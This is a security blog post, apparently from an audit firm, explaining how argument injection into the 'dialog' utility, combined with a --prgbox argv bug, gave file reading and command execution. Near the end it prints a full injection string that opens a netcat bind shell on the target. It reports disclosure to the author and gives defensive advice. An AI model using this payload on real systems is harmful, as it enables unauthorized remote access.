Abusing « dialog » for fun and profit

If you want to design a command-line utility with a graphical user interface, you have the choice of using a full-featured library like curses, or using an utility like « dialog ».
Dialog is a program you can call with arguments specifying what you want to display (input box, menu…).
Here is an example of the result of the « dialog --msgbox "Hello world.\n\nHow are you ?" 0 0 » command :

During a system audit, we had access to a server that only had a command-line GUI interface.This interface presented menus allowing us todo various diagnostics to the server (that would end up executing scripts)...
Of course, our goal was to find a bug in this interface to execute arbitrary code on the server.

After a little analysis, we found out that the whole script for the GUI interface was calling the « dialog » command to display the various dialog presented to the user.

From parameter injection...

We encountered code to execute a diagnostic script, providing it a number as a parameter :
n = ""
while not n.isdigit():
    n = dialog_input("Enter a number", n)

system("/root/diagnostic_script %s" % n)
With the dialog_input function being like :
def dialog_input(question, default):
    args = shlex.split('dialog --inputbox "%s" 10 50 "%s"' % (question, default))_, stderr = subprocess.Popen(args, stderr=subprocess.PIPE).communicate()
    return stderr.decode()
So, the more obvious way would have been to put a string like "; whoami" in the dialog, to have the system() execute our code.
However, this is made impossible because thenumber is validated, and if we enter an invalid number we will be asked again.
But what is really interesting is that the old number we entered (that is invalid !) will be set as the default value of the input, by passing it as an argument for the dialog command.
So, what happens if we put a quote in the number we enter ? As it is invalid, dialog_input() is called again, and booom, shlex.split is lost :
Traceback (most recent call last):
  ValueError: No closingquotation
So, it's obvious that from now, we can inject arguments for the « subprocess.Popen » call (as long as we put an even number of quotes in the dialog).
The scope of what we can do is very limited. We can't use shell tricks like a semicolon or a pipe to execute other commands : subprocess.Popen directly call the « dialog » command (as the shell argument is False by default), so we can only control its parameters.
So, we have to dig into how dialog works. We can see that calls like « dialog --inputbox "foo" 10 50 "bar" --inputbox "foo2" 10 50 "bar2" » works fine, as dialog iteratively parse its argument and allowmultiple widgets to be displayed successively.
Let's see if we can find some useful widgets ! After reading the manual, there is « --dselect » that is a directory chooser (so we can see the content of the filesystem), and « --textbox » that can display the content of a file :)

So, we have arbitrary (read) access to the filesystem !

... to arbitrary command execution...

However, we also found one very interesting widget : prgbox.
--prgbox command height width
    A prgbox is very similar to a programbox.This dialog box is used to display the output of a command that is specified as an argument to prgbox.

    After the command completes, the user can press the ENTER key so that dialog will exit and the calling shell script can continue its operation.
So, this widget wasdesigned… to execute any command.
However, during our trials it was impossible to have it work correctly because each time we put shell commands the behavior was completely unexpected, often resulting in an empty result.

...by working around a nasty bug !

We looked at the source code of the prgbox widget and found that :
sprintf(blob, "-c %s", command);
argv = dlg_string_to_argv(blob); // will convert the command in « blob » to a list of arguments.execvp("sh", argv);
Which shown clearly that our command was executed using « sh -ccommand », so using shell should have worked !
However, shouldn't argv[0] contain « sh » ? It is this !
When « sh » was called, its argv[0], instead of containing « sh », was « -c » (so it ignored this argument, thinking it was its name !).
A quick workaround to allow our exploit to work was to insert « -c » at the beginning of the command we passed to the prgbox widget, for sh to correctly have « -c » as its argv[1].
So, at the end we were able to spawn a backdoor shell in our target server, simply by entering this in the input box asking for the IP address to ping :
" --prgbox "-c \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc -l 8000 >/tmp/f\"" 30 70 --title "
Success !

We also contacted the author ofdialog to inform him of the bug, that was corrected in the last version of dialog.

It was also very funny to dig into the dialog source code, and see that there is even an option « --file » that allows an user to put more arguments in a file (they will be inserted in place during the process of parsing the arguments). And putting another « --file » option referencing to itself inside such a file could have led to infinite recursion ! So the program contains a counter of the recursion depth and don't allow it to be more than 20.


When you use an external program like dialog, be verycareful with what you allow the user to inject in the parameters. As we have just seen, even if the command is not interpreted in the shell, it is possible to misuse the program youare calling to end up executing arbitrary code.

And when we search github for misuse examples, it seems that it is quite easy to encounter…

Author:Korantin Auguste
Posta Comment
Thanks for your comment